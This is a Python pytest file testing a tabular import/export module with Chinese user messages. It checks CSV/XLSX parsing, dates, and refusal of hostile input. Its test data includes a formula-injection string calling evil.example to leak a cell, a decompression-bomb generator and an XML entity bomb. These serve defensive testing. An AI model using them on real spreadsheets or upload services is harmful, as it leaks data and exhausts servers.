import io
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from gonghui.core import tabular
from gonghui.core.errors import ImportRejected, LineError
from gonghui.core.tabular import parse_date_cell, read_table, write_xlsx


def test_line_numbers_follow_the_file_and_skip_blank_lines() -> None:
    table = read_table(b"a,b\n1,2\n\n3,4\n")
    assert table.headers == ["a", "b"]
    assert [(row.line, row.get("a")) for row in table.rows] == [(2, "1"), (4, "3")]


def test_an_empty_file_and_a_broken_workbook_are_refused() -> None:
    with pytest.raises(ImportRejected) as empty:
        read_table(b"  \n")
    assert str(empty.value.errors[0]) == "文件为空"
    with pytest.raises(ImportRejected) as broken:
        read_table(b"PK\x03\x04not really a zip")
    assert "XLSX 文件已损坏" in str(broken.value.errors[0])


def test_a_control_character_in_a_cell_or_the_header_is_refused_with_its_line() -> None:
    with pytest.raises(ImportRejected) as cell:
        read_table(b"a,b\n1,2\n3,x\x00y\n4,\x1b\n")
    assert [str(line) for line in cell.value.errors] == [
        "第3行：“b”含有看不见的控制字符（多为从别处复制粘贴时带入），请删除后重新填写",
        "第4行：“b”含有看不见的控制字符（多为从别处复制粘贴时带入），请删除后重新填写",
    ]
    with pytest.raises(ImportRejected) as header:
        read_table(b"a\x00,b\n1,2\n")
    assert str(header.value.errors[0]).startswith("第1行：表头含有看不见的控制字符")
    assert read_table(b'a,b\n"x\ty\r\nz",2\n').rows[0].get("a") == "x\ty\r\nz"


def test_a_cell_past_the_csv_limit_is_refused_in_chinese() -> None:
    with pytest.raises(ImportRejected) as caught:
        read_table(b'a,b\n"' + b"x" * 200_000 + b",1\n")
    assert str(caught.value.errors[0]) == (
        "第2行：CSV 格式错误：单元格超过131,072个字符（常见原因：引号未配对）"
    )


@pytest.mark.parametrize("text", ["2025-01-31", "20250131", "2025/1/31", "2025.01.31"])
def test_dates_are_read_in_the_forms_banks_write(text: str) -> None:
    assert parse_date_cell(text).isoformat() == "2025-01-31"


@pytest.mark.parametrize("text", ["31/01/2025", "2025-13-01", "", "昨天"])
def test_other_dates_are_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"格式不正确|不存在|请填写"):
        parse_date_cell(text)


EVIL = '=WEBSERVICE("http://evil.example/?"&B2)'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-3+4", "@SUM(A1)", "=1+1"])
def test_exported_text_that_looks_like_a_formula_stays_text(text: str) -> None:
    content = write_xlsx("名单", ["姓名", "身份证号"], [[text, "370602198001151234"]])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml, "no formula element in the sheet"
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == text


def test_a_control_character_stored_before_it_was_refused_does_not_break_an_export() -> None:
    # A name that came in with a \x01 (by the API, or before imports refused one) made the
    # whole export a 500: openpyxl refuses to write the character.
    content = write_xlsx("名单", ["姓名", "银行"], [["张\x01三", "齐鲁银行\x00"]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert [sheet["A2"].value, sheet["B2"].value] == ["张三", "齐鲁银行"]


def test_numbers_and_dates_are_still_written_as_themselves() -> None:
    content = write_xlsx("表", ["金额", "日期"], [[-12, date(2025, 2, 10)]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == -12
    assert sheet["B2"].is_date


def xlsx_bomb(rows: int) -> bytes:
    """The outside test's file: a real workbook whose one sheet holds `rows` lines of the
    members template, streamed into the zip (about 300 bytes of XML a line, 150 MB for
    500,000 lines, which deflate to well under a megabyte)."""
    template = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(write_xlsx("会员", ["姓名"], []))) as source,
        zipfile.ZipFile(template, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for entry in source.infolist():
            if entry.filename != "xl/worksheets/sheet1.xml":
                target.writestr(entry, source.read(entry))
                continue
            with target.open(entry.filename, "w", force_zip64=True) as sheet:
                sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="')
                sheet.write(b'http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
                sheet.write(b"<sheetData>")
                cell = '<c t="inlineStr"><is><t>{}</t></is></c>'
                texts = ["王某某", "370602198001151234", "13800000000", "91370602MA3C4A1000"]
                cells = "".join(cell.format(text) for text in [*texts, "生产一线", "在职"])
                line = f"<row>{cells}</row>".encode()
                for _ in range(rows // 10_000):
                    sheet.write(line * 10_000)
                sheet.write(b"</sheetData></worksheet>")
    return template.getvalue()


def test_an_xlsx_bomb_is_refused_before_it_is_parsed() -> None:
    bomb = xlsx_bomb(500_000)
    assert len(bomb) < 2 * 1024 * 1024
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(ImportRejected) as refused:
        read_table(bomb)
    elapsed = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 5
    assert peak < 20 * 1024 * 1024
    assert "XLSX 文件过大" in str(refused.value.errors[0])


def test_an_xlsx_with_more_rows_than_the_cap_is_refused_while_streaming(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(tabular, "MAX_XLSX_ROWS", 15_000)
    with pytest.raises(ImportRejected) as refused:
        read_table(xlsx_bomb(20_000))
    assert "超过15,000行" in str(refused.value.errors[0])


def test_a_file_bad_on_every_line_reports_a_bounded_list() -> None:
    rejected = ImportRejected([LineError(n, "身份证号校验位错误") for n in range(2, 50_002)])
    assert rejected.message == "导入失败：共50000行有错误，未写入任何数据"
    assert len(rejected.errors) == ImportRejected.MAX_REPORTED + 1
    assert str(rejected.errors[-1]) == f"……以及另外 {50_000 - ImportRejected.MAX_REPORTED} 处错误"


def test_an_export_opens_with_who_took_it_and_when_and_still_imports() -> None:
    taken = datetime(2025, 2, 10, 1, 30, tzinfo=UTC)
    caption = tabular.export_caption("张经办", "会员名册", taken)
    assert caption == "会员名册 · 张经办 导出于 2025-02-10 09:30（北京时间）"
    content = write_xlsx(
        "会员", ["姓名", "单位"], [["林建国", "烟台甲机械有限公司"]], caption=caption
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].value == caption
    assert [cell.value for cell in sheet[2]] == ["姓名", "单位"]
    assert sheet.freeze_panes == "A3"
    # A column is as wide as its longest value (a CJK character counts two).
    assert sheet.column_dimensions["B"].width == len("烟台甲机械有限公司") * 2 + 2
    assert sheet.column_dimensions["A"].width == 8
    table = read_table(content)
    assert table.headers == ["姓名", "单位"]
    assert [(row.line, row.get("姓名")) for row in table.rows] == [(3, "林建国")]


def _edited_workbook(edit: Callable[[str, bytes], bytes | None]) -> bytes:
    book = Workbook()
    book.active.append(["a", "b"])
    book.active.append([1, 2])
    saved = io.BytesIO()
    book.save(saved)
    edited = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(saved.getvalue())) as source,
        zipfile.ZipFile(edited, "w") as target,
    ):
        for name in source.namelist():
            content = edit(name, source.read(name))
            if content is not None:
                target.writestr(name, content)
    return edited.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        f'<!ENTITY {name} "{f"&{previous};" * 10}">'.encode()
        for previous, name in zip("abcdef", "bcdefg", strict=True)
    )
    + b"]>"
)
BROKEN_SHEETS = {
    "cut short": lambda name, xml: xml[: len(xml) // 2] if name == SHEET else xml,
    "workbook cut short": lambda name, xml: xml[:200] if name == "xl/workbook.xml" else xml,
    "a NUL character reference": lambda _, xml: xml.replace(b"<t>a</t>", b"<t>&#0;</t>"),
    "an entity bomb": lambda name, xml: (
        BOMB + xml.replace(b"<t>a</t>", b"<t>&g;</t>") if name == SHEET else xml
    ),
    "text in a number cell": lambda _, xml: xml.replace(b"<v>2</v>", b"<v>abc</v>"),
    "the sheet missing": lambda name, xml: None if name == SHEET else xml,
}


@pytest.mark.parametrize("edit", BROKEN_SHEETS.values(), ids=BROKEN_SHEETS.keys())
def test_a_workbook_broken_inside_is_refused_not_an_error(
    edit: Callable[[str, bytes], bytes | None],
) -> None:
    # Each of these was a 500 on upload: the sheet is parsed while it streams, past the
    # check that opened the workbook.
    with pytest.raises(ImportRejected) as caught:
        read_table(_edited_workbook(edit))
    assert "XLSX 文件已损坏" in str(caught.value.errors[0])


def test_a_cell_far_to_the_right_does_not_widen_every_row() -> None:
    # A cell named XFD2, or a dimension of A1:XFD1048576, made openpyxl hand over each row as
    # 16,384 cells: a 30 KB file was two seconds of a request, 100,000 rows minutes.
    content = _edited_workbook(
        lambda _, xml: xml.replace(b'r="B2"', b'r="XFD2"').replace(
            b'ref="A1:B2"', b'ref="A1:XFD1048576"'
        )
    )
    table = read_table(content)
    assert table.headers == ["a", "b"]
    assert [row.values for row in table.rows] == [{"a": "1", "b": ""}]
